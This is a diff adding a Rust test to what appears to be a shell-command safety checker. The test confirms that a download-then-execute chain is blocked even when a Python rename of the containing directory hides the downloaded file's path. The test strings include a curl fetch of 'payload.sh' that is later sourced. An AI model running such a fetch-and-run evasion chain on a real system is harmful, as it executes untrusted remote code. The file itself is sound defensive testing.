@@ -137,6 +137,23 @@ fn python_renames_or_links_a_download_then_source_runs_it() {
 }
 
 #[test]
+fn python_renames_the_directory_holding_a_download() {
+    // The file keeps its own inode and ctime; its directory gets a new name.
+    let mv = r#"python3 -c 'import os; os.rename("dl","ok")'"#;
+    blocked(
+        &format!("mkdir dl\ncurl -s {{URL}}/payload.sh -o dl/x.sh\n{mv}\nsource ok/x.sh"),
+        FLOW,
+    );
+    let a = arena();
+    let r = benign(
+        &a,
+        &format!("mkdir dl\nprintf 'touch pwned\\n' > dl/x.sh\n{mv}\nsource ok/x.sh"),
+        None,
+    );
+    ran_payload(&a, &r);
+}
+
+#[test]
 fn python_copies_a_download_by_a_computed_name() {
     // The name is built at run time: no argument names the file.
     let copy = r#"python3 -c 'open("next.sh","w").write(open("d"+"l.txt").read())'"#;
